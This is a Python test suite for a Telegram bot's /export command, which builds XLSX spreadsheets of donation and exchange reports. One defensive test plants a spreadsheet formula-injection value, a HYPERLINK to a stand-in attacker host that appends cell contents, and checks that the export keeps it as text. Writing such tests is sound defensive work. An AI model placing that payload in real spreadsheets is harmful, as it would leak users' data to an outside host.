"""/export: a progress message, then an XLSX whose rows and summary equal the database."""

from __future__ import annotations

import asyncio
import datetime as dt
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from handlers import offload
from handlers.core import Core
from storage.db import Database
from tests.conftest import Clock
from tests.reporting import person, report
from tests.telegram_harness import TelegramHarness, text
from tests.test_onboarding import make_invite


async def test_export_streams_every_report_of_the_scope(core: Core, db: Database, clock: Clock) -> None:
    day = clock().date()
    mine = [
        await report(db, clock, "LCA-DBP-CKQT-LAO-CAI", kind="donation", day=day - dt.timedelta(days=2),
                     amount="1500000", packages=30, description="Tặng 30 suất quà <Tết>"),
        await report(db, clock, "LCA-THON-COC-PHUONG", kind="exchange", day=day - dt.timedelta(days=5),
                     venue="partner"),
    ]
    await report(db, clock, "THO-BAN-KHEO", kind="visit", day=day - dt.timedelta(days=1))  # another cluster
    coordinator = await person(core, db, clock, "coord", "coordinator", cluster=2)
    said = await coordinator.send("/export month")
    assert "Preparing the spreadsheet of 2 reports (01/11/2026–23/11/2026)" in said
    assert "Spreadsheet ready" in said
    [xlsx] = coordinator.files
    assert xlsx.filename == "twinbot-20261101-20261123.xlsx" and xlsx.caption == "2 reports · cluster 2"
    book = load_workbook(io.BytesIO(xlsx.content), read_only=True)
    reports_sheet, summary = book.worksheets
    rows = list(reports_sheet.iter_rows(values_only=True))
    header, body = rows[0], rows[1:]
    assert header[0] == "Report no." and "Description" in header
    assert sorted(r[0] for r in body) == sorted(mine)
    donation = next(r for r in body if r[0] == mine[0])
    column = dict(zip(header, donation, strict=True))
    assert column["Gift packages"] == 30 and Decimal(str(column["Value of gifts (VND)"])) == Decimal("1500000")
    assert column["Description"] == "Tặng 30 suất quà <Tết>"
    summary_rows = {r[0]: (r[1] if len(r) > 1 else None) for r in summary.iter_rows(values_only=True) if r and r[0]}
    assert summary_rows["Reports"] == 2 and summary_rows["Gift packages"] == 30
    assert summary_rows["Lào Cai"] == 2


async def test_export_refusals(core: Core, db: Database, clock: Clock) -> None:
    officer = await person(core, db, clock, "off", "officer", unit="LCA-DBP-CKQT-LAO-CAI")
    assert "not available to you" in await officer.send("/export")
    coordinator = await person(core, db, clock, "coord", "coordinator", cluster=2)
    assert "No reports in this period." in await coordinator.send("/export month")
    assert "outside what you may see" in await coordinator.send("/export month cluster:1")
    assert "at most three years" in await coordinator.send("/export 01/01/2010-01/01/2026")


async def test_export_over_telegram_sends_a_document(core: Core, db: Database, clock: Clock) -> None:
    await report(db, clock, "LCA-DBP-CKQT-LAO-CAI", day=clock().date())
    async with TelegramHarness(core) as tg:
        user = tg.user(3003)
        await user.send(f"/start {await make_invite(tg_db := db, clock, role='coordinator', unit=None, cluster=2)}")
        del tg_db
        calls = await user.send("/export week")
        assert "Preparing the spreadsheet of 1 report" in text(calls)
        methods = [c.method for c in calls]
        # A sign of work at once, the count as soon as it is read (outside the event), then the file.
        assert methods.index("sendChatAction") < methods.index("sendMessage") < methods.index("sendDocument")
        [document] = [c for c in calls if c.method == "sendDocument"]
        assert document.params["document"]["filename"].endswith(".xlsx")
        assert document.params["caption"] == "1 report · cluster 2"
        assert tg.stub.violations == []


async def test_the_sign_of_work_stays_up_until_the_file_is_sent(
        core: Core, db: Database, clock: Clock, monkeypatch: pytest.MonkeyPatch) -> None:
    """Telegram shows "sending a file…" for five seconds at most and clears it at the bot's next message: while a
    spreadsheet is being written the bot shows it again and again, and stops once the file is sent."""
    import handlers.spreadsheet
    from bot.channels import telegram
    from tests.test_contention import Held, until

    monkeypatch.setattr(telegram.TelegramChannel, "working_every", 0.05)
    held = Held(handlers.spreadsheet.ReportsWorkbook.finish)
    monkeypatch.setattr(handlers.spreadsheet.ReportsWorkbook, "finish", held.as_method())
    await report(db, clock, "LCA-DBP-CKQT-LAO-CAI", day=clock().date())
    async with TelegramHarness(core) as tg:
        user = tg.user(3003)
        await user.send(f"/start {await make_invite(db, clock, role='coordinator', unit=None, cluster=2)}")
        before = len(tg.stub.calls)

        def calls() -> list[str]:
            return [c.method for c in tg.stub.calls[before:] if c.params.get("chat_id") == 3003]

        with offload.use_threads():
            await tg.runtime.receive(telegram.CHANNEL, [telegram.received(user.message("/export week"))])  # type: ignore[list-item]
            await held.wait_entered()
            # "Preparing…" cleared the first sign; while the file is being written the sign comes back, again
            # and again.
            await until(lambda: calls()[calls().index("sendMessage"):].count("sendChatAction") >= 3 or [])
            held.release()
            await tg.runtime.settle()
        sent = calls()
        last_sign = len(sent) - 1 - sent[::-1].index("sendChatAction")
        assert sent[0] == "sendChatAction" and last_sign < sent.index("sendDocument"), sent
        await asyncio.sleep(0.3)  # six times the interval: no sign after the file
        assert calls() == sent
        assert tg.stub.violations == []


async def test_text_that_looks_like_a_formula_stays_text(core: Core, db: Database, clock: Clock) -> None:
    await report(db, clock, "LCA-DBP-CKQT-LAO-CAI", day=clock().date(),
                 description='=HYPERLINK("http://evil.example/"&A2,"click")')
    coordinator = await person(core, db, clock, "coord", "coordinator", cluster=2)
    await coordinator.send("/export week")
    [xlsx] = coordinator.files
    sheet = load_workbook(io.BytesIO(xlsx.content)).worksheets[0]
    cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and c.value.startswith("=")]
    assert cells and all(c.data_type == "s" for c in cells)


async def test_every_sheet_opens_ready_to_use(core: Core, db: Database, clock: Clock) -> None:
    """Read back: autofilter and frozen header on both sheets, one date format, #,##0 on figures and money, a
    column per measure the period has and none for the rest, medicine value apart from gifts, the photos
    counted, the map link where a report has a position."""
    from openpyxl.utils import get_column_letter

    day = clock().date()
    await report(db, clock, "LCA-DBP-CKQT-LAO-CAI", kind="donation", day=day - dt.timedelta(days=2),
                 amount="1500000", packages=30)
    await report(db, clock, "LCA-THON-COC-PHUONG", kind="medical", day=day - dt.timedelta(days=5),
                 amount="200", currency="USD")
    async with db.unit_of_work() as uow:  # a shared position and two photos on the first report
        from storage.models import Report, ReportPhoto

        first = await uow.session.get(Report, 1)
        assert first is not None
        first.latitude, first.longitude = 22.50612, 103.96701
        first.photos = [ReportPhoto(position=n, channel="telegram", file_id=f"f{n}") for n in range(2)]
        await uow.commit()
    coordinator = await person(core, db, clock, "coord", "coordinator", cluster=2, lang="vi")
    await coordinator.send("/export tháng này")
    [xlsx] = coordinator.files
    book = load_workbook(io.BytesIO(xlsx.content))
    reports_sheet, summary = book.worksheets
    for sheet in (reports_sheet, summary):
        assert sheet.freeze_panes in ("C2", "A2"), sheet.title
        assert sheet.auto_filter.ref and sheet.auto_filter.ref.startswith("A1:"), sheet.title
        assert int(sheet.auto_filter.ref.rsplit(":", 1)[1].lstrip("ABCDEFGHIJKLMNOPQRSTUVWXYZ")) == sheet.max_row
    header = [cell.value for cell in reports_sheet[1]]
    column = {name: index for index, name in enumerate(header, start=1)}
    assert all(reports_sheet.cell(1, n).font.b for n in column.values())
    # Only the columns the month has: its measures (medicine apart from gifts, each in its currency), the details
    # of its kinds, the position; no withdrawn-only status, no column for measures nobody reported.
    assert {"Trị giá quà tặng (VND)", "Trị giá thuốc (USD)", "Số suất quà"} <= set(header)
    assert "Trị giá quà tặng (USD)" not in header and "Số đoàn" not in header and "Trạng thái" not in header
    assert "Hình thức giao lưu" not in header and "Quà tặng" in header
    assert len(header) < 30
    rows = {reports_sheet.cell(r, column["Báo cáo số"]).value: r for r in range(2, reports_sheet.max_row + 1)}
    donation, medical = rows[1], rows[2]
    money = reports_sheet.cell(donation, column["Trị giá quà tặng (VND)"])
    assert money.value == 1500000 and money.number_format == "#,##0"
    assert reports_sheet.cell(donation, column["Số suất quà"]).number_format == "#,##0"
    assert reports_sheet.cell(medical, column["Trị giá thuốc (USD)"]).value == 200
    assert reports_sheet.cell(medical, column["Trị giá quà tặng (VND)"]).value is None
    # Dates: real dates, one format for days, the same one with the time for timestamps.
    date = reports_sheet.cell(donation, column["Ngày"])
    assert date.is_date and date.number_format == "dd/mm/yyyy"
    assert reports_sheet.cell(donation, column["Thời điểm gửi"]).number_format == "dd/mm/yyyy hh:mm"
    photos = reports_sheet.cell(donation, column["Ảnh"])
    assert photos.value == 2 and reports_sheet.cell(medical, column["Ảnh"]).value == 0
    link = reports_sheet.cell(donation, column["Bản đồ"]).value
    assert link.startswith('=HYPERLINK("https://www.openstreetmap.org/?mlat=22.50612&mlon=103.96701')
    assert reports_sheet.cell(medical, column["Bản đồ"]).value is None
    assert get_column_letter(len(header)) in reports_sheet.auto_filter.ref
    # The summary: a header, real numbers and dates in the same formats.
    figures = {row[0].value: row[1] for row in summary.iter_rows(min_row=2)
               if len(row) > 1 and row[1].value is not None}
    assert [c.value for c in summary[1]][:2] == ["Số liệu", "Giá trị"]
    assert figures["Từ ngày"].is_date and figures["Từ ngày"].number_format == "dd/mm/yyyy"
    assert figures["Trị giá quà tặng (VND)"].value == 1500000
    assert figures["Trị giá quà tặng (VND)"].number_format == "#,##0"
    assert figures["Báo cáo"].value == 2
